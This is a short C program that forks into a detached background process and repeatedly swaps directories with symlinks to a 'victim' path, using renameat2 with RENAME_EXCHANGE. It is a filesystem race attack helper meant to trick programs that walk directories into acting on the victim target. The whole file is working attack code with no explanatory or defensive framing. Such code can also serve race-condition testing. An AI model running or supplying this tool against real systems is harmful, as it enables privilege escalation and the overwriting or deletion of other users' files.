/* Leaves a process that goes on swapping directories with links to a victim for as long as it can: swap VICTIM */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { COUNT = 40, ROUNDS = 400000 };

int main(int count, char **words) {
  char directory[16], link[16];
  if (count != 2 || fork() != 0) return count != 2;
  setsid();
  for (int fd = 0; fd < 3; fd++) close(fd);
  for (long round = 0; round < ROUNDS; round++) {
    snprintf(directory, sizeof directory, "d%ld", round % COUNT);
    snprintf(link, sizeof link, "l%ld", round % COUNT);
    if (syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */) == 0) continue;
    int made = mkdir(directory, 0700) == 0;
    if (symlink(words[1], link) != 0 && !made && access(".", X_OK) != 0) return 0;
    struct stat here;
    if (stat(".", &here) != 0 || here.st_nlink == 0) return 0;
  }
}
